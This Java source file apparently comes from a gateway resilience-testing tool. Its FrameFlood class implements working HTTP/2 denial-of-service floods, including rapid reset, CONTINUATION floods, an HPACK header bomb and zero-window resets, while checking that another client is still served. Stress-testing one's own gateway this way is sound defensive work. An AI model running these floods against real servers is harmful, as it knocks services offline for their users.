package dev.usher.attack;

import dev.usher.attack.field.AttackedGateways;
import dev.usher.attack.field.Frames;
import dev.usher.attack.field.GatewayDoor;
import dev.usher.attack.field.H2;
import dev.usher.attack.field.Noticed;
import dev.usher.attack.field.Pause;
import dev.usher.attack.field.Witness;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;

/** Floods of HTTP/2 frames, while another visitor carries on. */
final class FrameFlood implements Attack {
  private static final int FRAMES_A_WRITE = 50;
  private static final int RECONNECTS_A_SECOND = 40;

  /** What is sent repeatedly; stream numbers are odd and rise. */
  enum Way {
    RAPID_RESET("rapid reset"),
    CONTINUATIONS("CONTINUATION without end"),
    EMPTY_CONTINUATIONS("empty CONTINUATION"),
    PINGS("PING"),
    SETTINGS("SETTINGS"),
    EMPTY_DATA("empty DATA"),
    PRIORITIES("PRIORITY"),
    WINDOW_UPDATES("WINDOW_UPDATE of one byte"),
    OPENED_AND_LEFT("streams opened and left"),
    BIG_HEADS("heads that unpack to much"),
    UNKNOWN_FRAMES("frames of unknown types"),
    BAD_RESETS("made-to-reset (window of nought)");

    private final String kind;

    Way(String kind) {
      this.kind = kind;
    }
  }

  private final Way way;
  private final long millis;

  FrameFlood(Way way, boolean isShort) {
    this.way = way;
    this.millis = isShort ? 800 : 2000;
  }

  @Override
  public String kind() {
    return "HTTP/2: " + way.kind;
  }

  @Override
  public AttackedGateways entrance() {
    return AttackedGateways.TLS;
  }

  @Override
  public boolean peersToo() {
    return true;
  }

  @Override
  public Result on(GatewayDoor door) throws Exception {
    String pass = door.pass().replace("Usher-Pass: ", "").strip();
    byte[] head =
        pass.isEmpty() ? Frames.get("/main/flood") : Frames.get("/main/flood", "usher-pass", pass);
    AtomicInteger sent = new AtomicInteger();
    try (Witness witness = Witness.of(door)) {
      long end = System.nanoTime() + millis * 1_000_000;
      Tries tries = new Tries(2);
      for (int i = 0; i < 2; i++) {
        tries.add(() -> flood(door, head, () -> goesOn(witness, end), sent));
      }
      List<String> broken = tries.broken();
      Noticed pace = witness.pace();
      String wrong = door.wrongAfter(pace);
      return Result.ofFlood(sent.get(), wrong.isEmpty() ? String.join("", broken) : wrong, pace);
    }
  }

  private static boolean goesOn(Witness witness, long end) {
    return System.nanoTime() < end || !witness.hasSeenEnough();
  }

  private String flood(GatewayDoor door, byte[] head, BooleanSupplier goesOn, AtomicInteger sent) {
    while (goesOn.getAsBoolean()) {
      try (H2 h2 = H2.connect(door)) {
        Thread reader = new Thread(() -> h2.wire().rest(5000), "reader");
        reader.setDaemon(true);
        reader.start();
        int stream = 1;
        h2.send(first(head));
        while (goesOn.getAsBoolean() && stream < 400_000) {
          List<byte[]> frames = new ArrayList<>();
          for (int i = 0; i < FRAMES_A_WRITE; i++) {
            frames.addAll(frames(head, stream));
            stream += 2;
          }
          h2.send(frames.toArray(new byte[0][]));
          sent.addAndGet(frames.size());
          // A flood from one machine: this limits the processor time that the attacker itself
          // takes.
          Pause.of(2);
        }
      } catch (IOException closed) {
        Pause.of(1000 / RECONNECTS_A_SECOND);
      }
    }
    return "";
  }

  /** What opens the stream that the frames belong to. */
  private byte[] first(byte[] head) {
    int end = Frames.END_HEADERS;
    return switch (way) {
      case CONTINUATIONS, EMPTY_CONTINUATIONS ->
          Frames.frame(Frames.HEADERS, Frames.END_STREAM, 1, head);
      case EMPTY_DATA, WINDOW_UPDATES -> Frames.frame(Frames.HEADERS, end, 1, head);
      default -> Frames.frame(Frames.PING, 0, 0, new byte[8]);
    };
  }

  private List<byte[]> frames(byte[] head, int stream) {
    int whole = Frames.END_HEADERS | Frames.END_STREAM;
    byte[] nothing = new byte[0];
    return switch (way) {
      case RAPID_RESET ->
          List.of(
              Frames.frame(Frames.HEADERS, whole, stream, head),
              Frames.frame(Frames.RST_STREAM, 0, stream, Frames.number(8)));
      case CONTINUATIONS ->
          List.of(Frames.frame(Frames.CONTINUATION, 0, 1, Frames.head("x" + stream, "y")));
      case EMPTY_CONTINUATIONS -> List.of(Frames.frame(Frames.CONTINUATION, 0, 1, nothing));
      case PINGS -> List.of(Frames.frame(Frames.PING, 0, 0, new byte[8]));
      case SETTINGS -> List.of(Frames.frame(Frames.SETTINGS, 0, 0, Frames.setting(4, 65_535)));
      case EMPTY_DATA -> List.of(Frames.frame(Frames.DATA, 0, 1, nothing));
      case PRIORITIES ->
          List.of(
              Frames.frame(
                  Frames.PRIORITY, 0, stream, Frames.join(Frames.number(0), new byte[] {1})));
      case WINDOW_UPDATES -> List.of(Frames.frame(Frames.WINDOW_UPDATE, 0, 1, Frames.number(1)));
      case OPENED_AND_LEFT ->
          List.of(Frames.frame(Frames.HEADERS, Frames.END_HEADERS, stream, head));
      case BIG_HEADS -> List.of(Frames.frame(Frames.HEADERS, whole, stream, bomb(head)));
      case UNKNOWN_FRAMES -> List.of(Frames.frame(0x42, 0xff, stream, new byte[64]));
      case BAD_RESETS ->
          List.of(
              Frames.frame(Frames.HEADERS, Frames.END_HEADERS, stream, head),
              Frames.frame(Frames.WINDOW_UPDATE, 0, stream, Frames.number(0)));
    };
  }

  /** Puts one field of 2,000 bytes into the table, and sends 10,000 bytes that refer to it. */
  private static byte[] bomb(byte[] head) {
    byte[] field = Frames.head("x", "y".repeat(2000));
    field[0] = 0x40;
    byte[] names = new byte[10_000];
    java.util.Arrays.fill(names, (byte) 0xbe);
    return Frames.join(head, field, names);
  }
}
